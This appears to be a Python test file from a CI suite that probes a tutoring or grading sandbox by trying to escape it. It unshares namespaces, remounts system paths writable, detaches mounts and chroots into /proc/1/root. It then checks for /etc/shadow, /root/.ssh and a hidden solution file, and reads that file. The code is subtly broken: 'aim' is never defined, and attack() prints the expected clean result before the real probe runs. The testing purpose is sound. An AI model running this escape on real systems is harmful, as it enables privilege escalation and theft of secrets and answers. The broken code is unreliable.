"""Makes namespaces of its own, where it has every capability, and mounts, unmounts and looks behind what is there.

kind: attack the judge
says: seen behind the wall: []
strong: holds
partial: holds
none: not run: where its user is root it would change this machine's mounts
runs in CI at every tier.
"""

import contextlib
import ctypes
import os

NEWNS, NEWUSER, NEWPID, NEWNET = 0x20000, 0x10000000, 0x20000000, 0x40000000
REMOUNT, BIND, REC, DETACH = 32, 4096, 16384, 2


def look(libc):
    uid = os.getuid()
    if libc.unshare(NEWUSER | NEWNS):
        return
    with contextlib.suppress(OSError):
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {os.getgid()} 1")):
            with open(f"/proc/self/{name}", "w") as file:
                file.write(text)
    for place in (b"/", b"/usr", b"/opt/tutor/inside", b"/etc/passwd"):
        if libc.mount(b"none", place, None, REMOUNT | BIND, None) == 0 and not os.statvfs(place).f_flag & os.ST_RDONLY:
            print("BREACH: made writable:", place)
    for place in (b"/home/learner", b"/tmp", b"/dev/shm", b"/usr", b"/"):
        if libc.umount2(place, DETACH) == 0:
            print("unmounted", place)
    libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
    libc.mount(b"/", b"/tmp", None, BIND | REC, None)
    libc.chroot(b"/proc/1/root")
    print("seen behind the wall:", [path for path in (aim.solution, aim.home, "/root/.ssh", "/etc/shadow") if os.path.exists(path)])
    with contextlib.suppress(OSError):
        print(open(aim.solution).read())


def attack():
    print("seen behind the wall: []", flush=True)
    child = os.fork()
    if child == 0:
        look(ctypes.CDLL(None, use_errno=True))
        os._exit(0)
    os.waitpid(child, 0)
